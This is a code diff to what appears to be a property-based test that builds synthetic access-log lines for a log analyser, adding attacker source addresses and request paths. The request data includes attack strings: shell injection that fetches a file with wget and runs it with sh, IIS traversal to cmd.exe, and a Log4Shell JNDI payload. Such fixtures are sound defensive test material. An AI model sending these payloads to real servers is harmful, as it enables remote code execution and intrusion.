@@ -132,6 +132,8 @@ const knocks = [
   '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir',
   '/shell?cd+/tmp;wget+http://10.0.0.5/a;sh+a',
   '/shell?cd+/tmp;wget+http://203.0.113.7/a;sh+a',
+  '/shell?cd+/tmp;wget+http://192.168.1.1/a;sh+a',
+  '/shell?cd+/tmp;wget+http://100.64.0.1/a;sh+a',
   '/index.html?x=$%7bjndi:ldap://192.0.2.1/a}',
   '/index.html',
 ]
@@ -143,11 +145,24 @@ const tails = [
   '"-" "w%67et http://x"',
 ]
 
+const sources = [
+  '203.0.113.7',
+  '203.0.113.8',
+  '203.0.113.9',
+  '10.0.0.5',
+  '192.168.1.1',
+  '172.16.9.9',
+  '192.0.2.7',
+  '172.15.0.1',
+  '100.64.0.1',
+  '100.128.0.1',
+]
+
 /** Many requests of few clients, some in the same second, not quite in the order of time. */
 const flood = fc
   .array(
     fc.tuple(
-      fc.nat(3),
+      fc.nat(sources.length - 1),
       fc.nat(4000),
       fc.nat(knocks.length - 1),
       fc.nat(tails.length - 1),
@@ -160,7 +175,7 @@ const flood = fc
       const at = (index >> 1) * 9 + (second % 40)
       const stamp = `19/Jul/2001:1${6 + Math.floor(at / 3600)}:${two(Math.floor(at / 60) % 60)}:${two(at % 60)} +0530`
       const status = answer === 0 ? '200 5' : '404 283'
-      const source = client === 3 ? '10.0.0.5' : `203.0.113.${7 + client}`
+      const source = sources[client]
       return `${source} - - [${stamp}] "GET ${knocks[knock]} HTTP/1.0" ${status} ${tails[tail]}\n`
     }),
   )
